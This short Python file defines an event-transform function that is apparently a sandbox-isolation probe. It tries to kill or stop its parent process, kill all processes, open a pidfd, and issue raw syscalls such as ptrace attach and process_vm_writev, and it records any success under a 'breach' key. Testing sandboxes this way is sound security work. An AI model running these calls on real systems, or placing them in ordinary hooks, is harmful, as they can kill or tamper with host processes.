import ctypes, os, platform, signal
def transformEvent(event, metadata):
    libc, gained = ctypes.CDLL(None, use_errno=True), []
    parent = os.getppid()
    for name, way in {
        'kill': lambda: os.kill(parent, signal.SIGKILL), 'kill all': lambda: os.kill(-1, signal.SIGKILL), 'group': lambda: os.killpg(0, signal.SIGKILL),
        'stop': lambda: os.kill(parent, signal.SIGSTOP), 'pidfd': lambda: os.pidfd_open(parent),
    }.items():
        try: way(); gained.append(name)
        except BaseException: pass
    numbers = {'tkill': (200, parent, 9), 'tgkill': (234, parent, parent, 9), 'ptrace attach': (101, 16, parent, 0, 0), 'ptrace me': (101, 0, 0, 0, 0),
                       'rt_sigqueueinfo': (129, parent, 9, 0), 'process_vm_writev': (311, parent, 0, 0, 0, 0, 0), 'pidfd_open': (434, parent, 0),
                       'prlimit': (302, parent, 0, 0, 0), 'setpriority': (141, 0, parent, 19), 'sched_setaffinity': (203, parent, 8, 0), 'wait4': (61, -1, 0, 1, 0)}
    for name, call in numbers.items() if platform.machine() == 'x86_64' else ():
        if libc.syscall(*call) >= 0 or ctypes.get_errno() not in (1, 38): gained.append('%s %d' % (name, ctypes.get_errno()))
    if gained: event['breach'] = ','.join(gained)
    return event
